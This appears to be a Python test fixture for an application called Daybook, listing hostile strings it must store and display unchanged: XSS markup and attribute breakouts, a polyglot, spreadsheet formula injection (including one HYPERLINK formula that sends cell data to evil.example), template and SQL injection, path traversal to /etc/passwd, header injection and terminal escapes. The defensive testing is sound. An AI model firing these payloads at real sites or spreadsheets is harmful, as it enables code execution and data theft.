"""Texts that attack whoever shows them: each is data to Daybook, and must come out as the data that went in."""

import re
from typing import Final

PWN: Final = "window.pwned=1"
PAYLOADS: Final[dict[str, str]] = {
    "plain": "Acme",
    # Markup, for each place in a page that text can stand in.
    "script": f"<script>{PWN}</script>",
    "image": f"<img src=x onerror={PWN}>",
    "svg": f"<svg/onload={PWN}>",
    "out of an attribute": f'" autofocus onfocus="{PWN}" x="',
    "out of a single-quoted attribute": f"' autofocus onfocus='{PWN}' x='",
    "out of a title": f"</title></textarea></style><script>{PWN}</script>",
    "out of a comment": f"--><script>{PWN}</script><!--",
    "out of a script": f"</script><script>{PWN}</script>",
    "address": f"javascript:{PWN}//",
    "data address": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "htmx": '<a hx-get="/sign-out" hx-trigger="load">x</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={PWN} )//"
    f"</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd={PWN}//>",
    "entity": f"&lt;script&gt;{PWN}&lt;/script&gt;&#60;img&#62;",
    "unclosed": f"<img src=x onerror={PWN} ",
    # Formulas, as spreadsheets take them.
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "blank first": "  =1+1",
    "second cell": 'x";=1+1;"',
    "comma": '",=1+1,"',
    # Templates.
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "shell": "${7*7} $(id) `id` #{7*7} <%= 7*7 %>",
    "typst": '#panic("x") #read("/etc/passwd") @ref *b* $x$',
    "format": "%s%n{0.__class__}{self}%(name)s",
    # Databases, files, programs.
    "sql": "'; DROP TABLE books.invoices; --",
    "like": "%_\\",
    "path": "../../../../etc/passwd",
    "odd address": "a/b?c=d&e=f#g%2e%2e%00",
    "quotes": "\"'`´‘’“”«»\\",
    "json": '{"a": [null, true, 1e999]}',
    # Terminals and logs.
    "colours": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "link of a terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title of a terminal": "\x1b]0;pwned\x07",
    "one-byte escape": "\x9b31mred",
    "new line": 'a\r\nSet-Cookie: daybook=evil\r\n\r\n{"event": "forged"}',
    "line ends of Unicode": "a\u2028b\u2029c\x85d",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "bell and backspace": "a\x07b\x08\x08c\x7f",
    # Letters that mislead.
    "reversed": "invoice\u202efdp.exe",
    "isolates": "\u2066a\u2069\u200f\u061cb",
    "zero width": "a\u200bb\u200dc\ufeffd\u2060",
    "combining": "\u0301\u0489" + "o\u0335" * 40,
    "beyond the plane": "💸🇬🇧👩‍👩‍👧\U0010ffff",
    "two normal forms": "é e\u0301 ﬁ İ ı ß",
    "long": "long-" * 1_200,
    "one long word": "w" * 5_000,
}
"""By what they try; none holds a NUL, which no text of the wire contract may."""

NOT_AN_ID: Final = re.compile(r"[\x00-\x1f\x7f-\x9f]")
MOST_ID: Final = 128
STEERING: Final = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
"""What nothing that is shown may hold: a page's own line ends apart."""
_LEFT_OUT: Final = re.compile(r"[\s\ufffd\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]+")


def core(text: str) -> str:
    """A text without blanks and without what may be replaced where it is shown."""
    return _LEFT_OUT.sub("", text)
